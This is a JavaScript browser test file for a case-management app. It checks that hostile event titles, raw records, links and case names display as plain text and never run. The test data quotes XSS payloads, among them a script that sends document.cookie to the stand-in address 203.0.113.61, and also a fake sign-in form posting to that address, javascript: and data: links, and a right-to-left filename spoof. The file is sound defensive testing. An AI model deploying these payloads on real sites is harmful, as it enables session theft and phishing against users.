// Evidence written by the attacker: shown as text, in every place where it appears, and never run, loaded or followed.
// The watch over every page (lib/browser.mjs) fails a test for a dialog, a request elsewhere or a report of the policy.

import assert from "node:assert/strict";
import { stage } from "./lib/browser.mjs";
import { List, inspector } from "./lib/list.mjs";
import { openTimeline } from "./lib/signin.mjs";
import { until } from "./lib/until.mjs";

const { promise } = stage();

/** Invisible and turning characters appear as their number. */
const marked = (text) =>
  text.replaceAll(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/gu, (mark) => `U+${mark.codePointAt(0).toString(16).toUpperCase().padStart(4, "0")}`);

const squeezed = (text) => text.replaceAll(/\s+/g, " ").trim();

async function hostileEvents(demo) {
  const cid = await demo.caseNamed("Brackwater");
  const events = (await demo.events(cid)).filter((event) => event.tags.includes("hostile-text"));
  assert.ok(events.length >= 8, "the demonstration must have hostile texts");
  return { cid, events };
}

promise("every hostile title stands in the list as its own text", async ({ page, demo }) => {
  const { cid, events } = await hostileEvents(demo);
  await openTimeline(page, demo, cid, "?q=tag:hostile-text");
  const list = List.timeline(page);
  await list.shows(events.length, (await demo.events(cid)).length);
  const titles = (await list.column("Title")).map(squeezed);
  for (const [index, event] of events.entries()) {
    const wanted = squeezed(marked(event.title)).slice(0, 390);
    assert.ok(titles[index].startsWith(wanted), `${titles[index].slice(0, 100)} is not ${wanted.slice(0, 100)}`);
  }
});

promise("every hostile title, record, tag and source stands in the inspector as its own text", async ({ page, demo }) => {
  const { cid, events } = await hostileEvents(demo);
  await openTimeline(page, demo, cid, "?q=tag:hostile-text");
  const list = List.timeline(page);
  await list.focus();
  for (const event of events) {
    await page.keyboard.press("j");
    const shown = inspector(page);
    const full = await demo.event(cid, event.id);
    await shown.getByText(`#${event.id}`, { exact: true }).waitFor();
    const text = squeezed(await shown.innerText());
    assert.ok(text.includes(squeezed(marked(event.title))), `title of #${event.id}`);
    for (const tag of event.tags) assert.ok(text.includes(tag), `tag ${tag} of #${event.id}`);
    if (full.event_source) assert.ok(text.includes(full.event_source), `source of #${event.id}`);
    if (full.event_raw) {
      const raw = squeezed(await shown.getByRole("region", { name: "Raw record" }).innerText());
      assert.ok(raw.includes(squeezed(marked(full.event_raw))), `raw record of #${event.id}`);
    }
  }
  assert.equal(await page.locator("main img, main iframe, main script, main object, main embed, main style, main base").count(), 0);
});

promise("markup in a description is shown, not made", async ({ page, demo }) => {
  const { cid, events } = await hostileEvents(demo);
  const event = events.find((one) => one.title.includes("<script>alert(document.domain)"));
  await openTimeline(page, demo, cid, `?at=${event.id}`);
  const shown = inspector(page);
  for (const text of [
    "<script>fetch('https://203.0.113.61/c?'+document.cookie)</script>",
    "<img src=x onerror=\"alert('content')\">",
    "<svg onload=alert(2)>",
    '<iframe srcdoc="<script>alert(3)</script>"></iframe>',
    "Whoever reads the log in a browser is the target.",
  ]) {
    await until(text, async () => squeezed(await shown.innerText()).includes(text));
  }
});

promise("a form that imitates our own sign-in is text, and its link says where it leads", async ({ page, demo }) => {
  const { cid, events } = await hostileEvents(demo);
  const event = events.find((one) => one.title.startsWith("Second note imitates"));
  await openTimeline(page, demo, cid, `?at=${event.id}`);
  const shown = inspector(page);
  await until("the form as text", async () => (await shown.innerText()).includes('<form action="https://203.0.113.61/k">'));
  assert.equal(await shown.getByRole("textbox").count(), 0);
  assert.equal(await shown.getByRole("button", { name: "Continue" }).count(), 0);
  const link = shown.getByRole("link", { name: "Sign in again" });
  await link.waitFor();
  assert.match(await link.locator("xpath=..").innerText(), /Sign in again\s+\(203\.0\.113\.61\)/);
});

promise("no link leaves without a question that names the real host; schemes that run code are no links at all", async ({ page, demo, context }) => {
  const { cid, events } = await hostileEvents(demo);
  const event = events.find((one) => one.title.startsWith("Text of RECOVER-TIDELOCK"));
  await openTimeline(page, demo, cid, `?at=${event.id}`);
  const shown = inspector(page);
  // It pretends to lead to brackwater.example; the real host stands behind the @.
  const pretender = shown.getByRole("link", { name: "https://brackwater.example/status" });
  await pretender.waitFor();
  for (const name of ["Recover your files", "Our desk", "price list"]) assert.equal(await shown.getByRole("link", { name }).count(), 0, name);
  const text = squeezed(await shown.innerText());
  assert.match(text, /Recover your files \[link not allowed: javascript:/);
  assert.match(text, /Our desk \[link not allowed: data:text\/html/);
  assert.match(text, /\[image: logo https:\/\/203\.0\.113\.61\/p\.png/);
  for (const link of await shown.getByRole("link").all()) {
    assert.match((await link.getAttribute("rel")) ?? "", /noopener noreferrer/);
  }

  const before = page.url();
  await pretender.click();
  const question = page.getByRole("dialog", { name: "Leave Casebook?" });
  await question.waitFor();
  await question.getByText("203.0.113.61", { exact: true }).waitFor();
  const leave = question.getByRole("link", { name: "Open in a new tab" });
  assert.equal(new URL(await leave.getAttribute("href")).hostname, "203.0.113.61");
  assert.equal(await leave.getAttribute("target"), "_blank");
  await question.getByRole("button", { name: "Stay" }).click();
  await question.waitFor({ state: "hidden" });
  assert.equal(page.url(), before);
  assert.equal(context.pages().length, 1);
});

promise("hostile text in a query, an address and a title of the page stays text", async ({ page, demo }) => {
  const cid = await demo.caseNamed("Brackwater");
  const hostile = '"><img src=x onerror=alert(1)><script>alert(2)</script>';
  await openTimeline(page, demo, cid, `?q=${encodeURIComponent(hostile)}`);
  const list = List.timeline(page);
  assert.equal(await list.query.inputValue(), hostile);
  await list.filter('title:"<script>alert(document.domain)"');
  await list.shows(1, (await demo.events(cid)).length);
  await page.getByRole("list", { name: "Terms in force" }).getByText("title: <script>alert(document.domain)").waitFor();
});

promise("a case whose name is markup is shown by its name everywhere", async ({ page, demo }) => {
  const name = '<b onmouseover="alert(1)">Case</b> {{7*7}} ${7*7} \u202egnp.exe';
  const body = { case_name: name, case_description: "<script>alert(1)</script>", case_soc_id: '"><svg onload=alert(1)>', case_customer: 2 };
  const made = await demo.iris("manage/cases/add", {}, { body });
  await openTimeline(page, demo, made.case_id);
  await until("the name over the page", async () => squeezed(await page.getByRole("heading", { level: 1 }).innerText()).includes(marked(name)));
  await page.getByRole("link", { name: "Cases", exact: true }).click();
  const cases = List.cases(page);
  await until("the name in the list", async () => (await cases.column("Name")).includes(marked(name)));
});
